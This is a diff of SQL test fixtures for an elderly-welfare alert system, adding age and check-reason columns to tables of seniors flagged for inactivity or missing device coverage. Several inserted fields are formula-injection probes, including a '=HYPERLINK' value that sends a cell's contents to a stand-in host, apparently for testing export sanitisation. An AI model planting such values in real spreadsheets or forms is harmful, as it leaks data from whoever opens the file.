@@ -66,20 +66,22 @@ CREATE OR REPLACE TABLE core.identity_map AS
                           ('civil_affairs', 'senior:202611:9', '{P4}')) t(system, record_key, person_key);
 CREATE OR REPLACE TABLE marts.elderly_alerts (person_key VARCHAR, community_code VARCHAR, community VARCHAR,
     estate_name VARCHAR, building VARCHAR, unit VARCHAR, room VARCHAR, address VARCHAR, age INTEGER,
-    last_door_access_at TIMESTAMPTZ, last_water_use_at TIMESTAMPTZ, hours_silent DECIMAL(10, 1),
-    door_cards INTEGER, has_water_meter BOOLEAN);
+    age_at_least INTEGER, check_reason VARCHAR, last_door_access_at TIMESTAMPTZ, last_water_use_at TIMESTAMPTZ,
+    hours_silent DECIMAL(10, 1), door_cards INTEGER, has_water_meter BOOLEAN);
 INSERT INTO marts.elderly_alerts VALUES
     ('{P3}', '511403001003', '-观音社区', '锦江苑', '16', '3', '1001', chr(9) || '锦江苑16栋3单元1001室', 77,
+     NULL, NULL,
      '2026-11-18 21:30:00.123+00', NULL, 50.5, 1, false),
-    ('{P1}', '511403001001', '凤鸣社区', '凤鸣苑', '1', '1', '101', '凤鸣苑1栋1单元101室', 81,
+    ('{P1}', '511403001001', '凤鸣社区', '凤鸣苑', '1', '1', '101', '凤鸣苑1栋1单元101室', 81, NULL, NULL,
      '2026-11-18 00:00:00+00', '2026-11-17 12:00:00+00', 72.0, 1, true),
     ('{P2}', '511403001002', '+长寿社区', NULL, NULL, NULL, NULL, '=HYPERLINK("http://x.example/?q="&A1)', 90,
+     NULL, '是否独居不详：户籍未登记其住房',
      NULL, NULL, NULL, 0, true);
 CREATE OR REPLACE TABLE marts.no_device_coverage (person_key VARCHAR, community_code VARCHAR,
     community VARCHAR, estate_name VARCHAR, building VARCHAR, unit VARCHAR, room VARCHAR, address VARCHAR, age INTEGER,
-    unregistered_cards_at_home INTEGER);
+    age_at_least INTEGER, check_reason VARCHAR, unregistered_cards_at_home INTEGER);
 INSERT INTO marts.no_device_coverage VALUES
-    ('{P4}', '511403001003', '观音社区', '南街老院', '19', '2', '403', '@南街老院19栋2单元403室', 84, 1);
+    ('{P4}', '511403001003', '观音社区', '南街老院', '19', '2', '403', '@南街老院19栋2单元403室', NULL, 80, NULL, 1);
 CREATE OR REPLACE TABLE marts.senior_allowance_gaps (person_key VARCHAR, community_code VARCHAR,
     community VARCHAR, age INTEGER, birth_year INTEGER);
 INSERT INTO marts.senior_allowance_gaps VALUES
